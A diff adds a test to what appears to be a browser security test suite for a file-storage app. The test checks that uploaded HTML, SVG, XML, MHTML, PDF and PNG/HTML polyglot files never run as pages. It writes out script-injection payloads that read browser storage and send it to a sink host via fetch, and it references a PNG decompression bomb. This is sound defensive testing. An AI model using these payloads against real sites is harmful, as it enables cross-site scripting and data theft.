@@ -141,6 +141,12 @@ row(
   },
 );
 
+/** One pixel. */
+const TINY_PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+);
+
 /** A PNG of 100,000 by 100,000 grey pixels in a few kilobytes: ten gigabytes once it is decoded. */
 function pngBomb(): Buffer {
   const chunk = (type: string, data: Buffer): Buffer => {
@@ -203,6 +209,86 @@ row(
     await ada.files.waitFor();
     expect(alarms).toEqual([]);
     t.held('the page lives on, and no document of a user runs in it');
+  },
+);
+
+/** What a script in a document would do first, wherever it came to run. */
+const THEFT = `parent.document.title = 'stolen'; opener && (opener.document.title = 'stolen');
+indexedDB.databases().then((all) => fetch('http://localhost:9/' + JSON.stringify(all)));
+navigator.storage.getDirectory().then((root) => fetch('http://localhost:9/' + root.name));`;
+
+row(
+  'H3',
+  {
+    attack: 'a document that goes after keys when it is looked at',
+    tried:
+      'HTML, XHTML, SVG, XML with a style sheet, MHTML and PDF with scripts, by their own types, as text and as pictures; a picture with HTML behind it, opened by its own address',
+  },
+  async (t) => {
+    const { page } = ada;
+    const html = `<!doctype html><title>stolen</title><script>${THEFT}</script><img src=x onerror="${THEFT}">`;
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${THEFT.replaceAll('&', '&amp;')}"><script><![CDATA[${THEFT}]]></script></svg>`;
+    const documents: readonly (readonly [name: string, mediaType: string, content: string])[] = [
+      ['page.html', 'text/html', html],
+      ['page.xhtml', 'application/xhtml+xml', html],
+      ['drawing.svg', 'image/svg+xml', svg],
+      ['sheet.xml', 'text/xml', `<?xml-stylesheet type="text/xsl" href="data:text/xml,${html}"?><a/>`],
+      ['mail.mhtml', 'multipart/related', `Content-Type: text/html\r\n\r\n${html}`],
+      ['form.pdf', 'application/pdf', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${THEFT})>>>>endobj`],
+    ];
+    const disguises = ['', 'text/plain', 'image/png', 'image/gif'];
+    const asked: string[] = [];
+    context.on('request', (request) => {
+      if (request.url().startsWith('http://localhost:9/')) asked.push(request.url());
+    });
+    const frames = page.frames().length;
+    for (const [name, own, content] of documents) {
+      for (const disguise of t.full ? disguises : disguises.slice(0, 3)) {
+        const shown = `${disguise.replace('/', ' ')} ${name}`.trim();
+        await ada.upload(named(shown, content, disguise === '' ? own : disguise));
+        await page.getByLabel('Filter files').fill(shown);
+        await ada.row(shown).first().waitFor({ timeout: 60_000 });
+        if ((await ada.lock.innerText()).includes('Locked')) await ada.unlock();
+        await ada.act(shown, 'Open');
+        const dialog = page.getByRole('dialog', { name: shown });
+        const isText = (disguise === '' ? own : disguise).startsWith('text/');
+        await dialog.locator(isText ? 'pre' : 'p.note:not([aria-live])').waitFor();
+        if (isText) expect(await dialog.locator('pre').innerText()).toContain('stolen');
+        expect(await dialog.locator('iframe, object, embed, svg svg, script').count()).toBe(0);
+        await page.keyboard.press('Escape');
+        await dialog.waitFor({ state: 'hidden' });
+        t.vary(1);
+      }
+    }
+
+    // A picture that is one, and a page too for whoever reads it as one.
+    const polyglot = Buffer.concat([TINY_PNG, Buffer.from(html)]);
+    await ada.upload(named('polyglot.png', polyglot, 'image/png'));
+    await page.getByLabel('Filter files').fill('polyglot.png');
+    await ada.row('polyglot.png').first().waitFor({ timeout: 60_000 });
+    await ada.act('polyglot.png', 'Open');
+    const picture = page.getByRole('dialog').getByRole('img', { name: 'polyglot.png' });
+    await expect.poll(() => picture.getAttribute('src')).toMatch(/^blob:/);
+    const opened = context.waitForEvent('page');
+    await page.evaluate((url) => void window.open(url ?? ''), await picture.getAttribute('src'));
+    const alone = await opened;
+    await alone.waitForLoadState();
+    expect(await alone.evaluate(() => [document.contentType, document.scripts.length])).toEqual([
+      'image/png',
+      0,
+    ]);
+    await alone.close();
+    t.vary(1);
+    await page.keyboard.press('Escape');
+
+    expect(asked).toEqual([]);
+    expect(page.frames()).toHaveLength(frames);
+    expect(await page.title()).not.toContain('stolen');
+    expect(alarms).toEqual([]);
+    await page.getByLabel('Filter files').fill('');
+    t.held(
+      'text is shown as text, a picture as a picture, and nothing else is: no document is made of a file',
+    );
   },
 );
 
